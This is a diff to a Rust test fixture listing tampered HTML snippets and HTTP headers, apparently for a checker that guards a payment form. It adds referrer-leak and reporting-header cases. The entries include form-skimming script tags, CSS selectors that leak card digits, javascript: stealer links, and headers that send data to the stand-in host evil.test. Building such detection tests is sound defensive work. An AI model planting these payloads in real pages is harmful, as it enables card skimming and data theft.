@@ -7,7 +7,7 @@ const FORM: &str = "<form ";
 const FIELD: &str = r#"<input type="hidden" "#;
 const SUBMIT: &str = r#"<button type="submit""#;
 
-pub const MARKUP: [(&str, &str); 76] = [
+pub const MARKUP: [(&str, &str); 78] = [
     (HEAD, "<script src=https://evil.test/skim.js></script></head>"),
     (HEAD, "<script src=//evil.test/skim.js></script></head>"),
     (HEAD, "<script src=/assets/other.js></script></head>"),
@@ -24,6 +24,7 @@ pub const MARKUP: [(&str, &str); 76] = [
     (HEAD, "<meta http-equiv=content-security-policy content=\"form-action *\"></head>"),
     (HEAD, "<meta http-equiv=set-cookie content=a=b></head>"),
     (HEAD, "<meta charset=utf-7></head>"),
+    (HEAD, "<meta name=Referrer content=unsafe-url></head>"),
     (HEAD, "<style>input[value^='4']{background:url(//evil.test/4)}</style></head>"),
     (HEAD, "<link rel=import href=https://evil.test/x.html></head>"),
     (HEAD, "<link rel=prefetch href=https://evil.test/></head>"),
@@ -63,6 +64,7 @@ pub const MARKUP: [(&str, &str); 76] = [
     (BODY, "<a href='java&#10;script:steal()'>x</a></body>"),
     (BODY, "<a href=data:text/html,x>x</a></body>"),
     (BODY, "<a href=/ ping=https://evil.test/>x</a></body>"),
+    (BODY, "<a href=/ referrerpolicy=unsafe-url>x</a></body>"),
     (BODY, "<a href=https://pay.test@evil.test/>x</a></body>"),
     (BODY, "<a href=https://shop.test.evil.test/>x</a></body>"),
     (BODY, "<input name=number></body>"),
@@ -87,7 +89,11 @@ pub const MARKUP: [(&str, &str); 76] = [
 ];
 
 /// A header, and its value; nothing if it is removed.
-pub const HEADERS: [(&str, Option<&str>); 26] = [
+pub const HEADERS: [(&str, Option<&str>); 30] = [
+    ("nel", Some("{\"report_to\":\"evil\",\"max_age\":60}")),
+    ("report-to", Some("{\"endpoints\":[{\"url\":\"https://evil.test/\"}],\"max_age\":60}")),
+    ("content-security-policy-report-only", Some("report-uri https://evil.test/")),
+    ("speculation-rules", Some("\"https://evil.test/rules\"")),
     ("content-security-policy", None),
     ("content-security-policy", Some("default-src *")),
     ("content-security-policy", Some("form-action 'self' https://evil.test")),
